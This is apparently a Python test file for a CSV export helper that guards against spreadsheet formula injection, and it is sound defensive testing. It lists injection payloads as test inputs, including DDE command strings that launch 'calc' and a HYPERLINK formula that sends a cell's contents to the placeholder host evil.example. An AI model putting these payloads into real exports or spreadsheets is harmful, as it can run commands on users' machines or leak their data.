"""CSV that a spreadsheet opens and does not run (XH7)."""

import csv
import io
import uuid

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ting.kit.csv import BOM, Cell, csv_bytes, safe

DANGEROUS = "=+-@\t\r\n＝＋－＠"
cells = st.none() | st.text() | st.integers() | st.floats(allow_nan=False, allow_infinity=False)


def read(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "attack",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "\u3000=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\x00=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "\u22121+1",
        "+886 2 1234 5678",
        "-",
        "'=1",  # somebody's own apostrophe: it comes home with the one that it had
    ],
)
def test_what_looks_like_a_formula_is_made_text(attack: str) -> None:
    assert safe(attack) == "'" + attack


@pytest.mark.parametrize(
    "harmless", ["", "a=b", "1+1", "A-1001", "王小明", "こんにちは ;-)", "a@b.example", "'a", "😀"]
)
def test_what_does_not_is_left_alone(harmless: str) -> None:
    assert safe(harmless) == harmless


def test_numbers_stay_numbers_and_nothing_is_empty() -> None:
    some = uuid.uuid5(uuid.NAMESPACE_DNS, "ting.example")
    row: list[Cell] = [-5, -1.5, 0, None, some]
    assert csv_bytes(["n"], [row]).splitlines()[1] == f"-5,-1.5,0,,{some}".encode()


def test_a_file_begins_with_a_mark_and_ends_its_lines_as_the_standard_says() -> None:
    data = csv_bytes(["編號", "a,b"], [['say "hi"', "two\nlines"], ["逗，號", "x"]])
    assert data.startswith(BOM.encode())
    assert data.decode() == BOM + '編號,"a,b"\r\n"say ""hi""","two\nlines"\r\n逗，號,x\r\n'


def test_a_head_is_made_safe_as_well() -> None:
    assert read(csv_bytes(["=A1"], [])) == [["'=A1"]]


@given(st.lists(st.lists(cells, min_size=1, max_size=4), max_size=5))
def test_whatever_is_written_is_read_back_and_never_a_formula(rows: list[list[Cell]]) -> None:
    back = read(csv_bytes(["head"], rows))[1:]
    assert len(back) == len(rows)
    for row, was in zip(back, rows, strict=True):
        for text, cell in zip(row, was, strict=True):
            if isinstance(cell, str):
                assert text.removeprefix("'") == cell.removeprefix("'")
                assert not text.lstrip().startswith(tuple(DANGEROUS))
